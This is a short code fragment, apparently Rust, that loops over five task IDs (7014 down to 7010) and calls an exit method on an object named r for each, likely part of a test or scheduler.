     for tid in [7014, 7013, 7012, 7011, 7010] {
         r.exit(tid);
     }
